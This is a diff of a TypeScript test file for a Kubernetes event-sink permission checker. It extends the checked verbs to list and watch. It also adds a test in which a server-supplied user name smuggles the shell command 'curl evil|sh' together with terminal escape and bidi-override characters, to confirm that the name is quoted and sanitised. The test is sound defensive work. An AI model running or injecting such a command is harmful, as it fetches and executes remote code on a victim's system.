@@ -53,6 +53,8 @@ async function check(
   return { ...report, api, requests };
 }
 
+const all = { create: true, patch: true, list: true, watch: true };
+
 test("FetchEventSink.check() reports a server that permits all, and stores nothing", async () => {
   for (const apiVersion of ["v1", "events.k8s.io/v1"] as const) {
     const { api, requests, version, ...report } = await check({ apiVersion, user: "ann" });
@@ -63,7 +65,7 @@ test("FetchEventSink.check() reports a server that permits all, and stores nothi
       user: "ann",
       apiVersion,
       namespace: "shop",
-      permitted: { "v1": { create: true, patch: true }, "events.k8s.io/v1": { create: true, patch: true } },
+      permitted: { "v1": all, "events.k8s.io/v1": all },
       clockSkewMs: undefined,
       problems: [],
     });
@@ -87,8 +89,8 @@ test("FetchEventSink.check() explains a missing role, with the Role and RoleBind
   const { ok, user, permitted, problems } = await check({ permitted: ["/create"], user: "ann" });
   assert.deepEqual([ok, user], [false, "ann"]);
   assert.deepEqual(permitted, {
-    "v1": { create: true, patch: false },
-    "events.k8s.io/v1": { create: false, patch: false },
+    "v1": { create: true, patch: false, list: false, watch: false },
+    "events.k8s.io/v1": { create: false, patch: false, list: false, watch: false },
   });
   const [{ type, message, fix, manifests } = assert.fail(), ...others] = problems;
   assert.deepEqual(others, []);
@@ -150,6 +152,13 @@ test("FetchEventSink.check() binds the role to a service account, and names the 
   assert.match(quoted.problems[0]!.fix, /--user='Ann O'\\''Hara' -n shop$/);
 });
 
+test("FetchEventSink.check() quotes a name that the server made up, and shows none of its control characters", async () => {
+  const hostile = await check({ user: "system:serviceaccount:shop:x; curl evil|sh #\u001b[2K\u202e", permitted: [] });
+  const { message, fix } = hostile.problems[0]!;
+  assert.match(fix, / --user='system:serviceaccount:shop:x; curl evil\|sh #.*' -n shop$/);
+  assert.doesNotMatch(`${hostile.user}${message}${fix}`, /[\p{Cc}\p{Cf}]/u);
+});
+
 test("FetchEventSink.check() takes the user from a refusal where the server does not name it", async () => {
   const { user, problems } = await check({ permitted: [] });
   assert.equal(user, "ann");
@@ -161,7 +170,7 @@ test("FetchEventSink.check() explains a missing role where the server answers no
     permitted: [],
     respond: ({ url }) => url.endsWith(REVIEWS) ? status(404, "not found") : undefined,
   });
-  assert.deepEqual(permitted.v1, { create: undefined, patch: undefined });
+  assert.deepEqual(Object.values(permitted.v1), Array(4).fill(undefined));
   assert.deepEqual(problems.map(({ type }) => type), ["forbidden"]);
   assert.match(problems[0]!.message, /^ann may not create events in the API group ""/);
 });
@@ -336,7 +345,7 @@ test("FetchEventSink.check() works without permission for version and reviews", 
   const { ok, version, permitted } = await check({
     respond: ({ url }) => /version|reviews/.test(url) ? status(403, "forbidden") : undefined,
   });
-  assert.deepEqual([ok, version, permitted.v1], [true, undefined, { create: undefined, patch: undefined }]);
+  assert.deepEqual([ok, version, permitted.v1.create, permitted.v1.list], [true, undefined, undefined, undefined]);
 });
 
 test("FetchEventSink.check() reports an admission webhook that rejects events, and ignores one without dry runs", async () => {
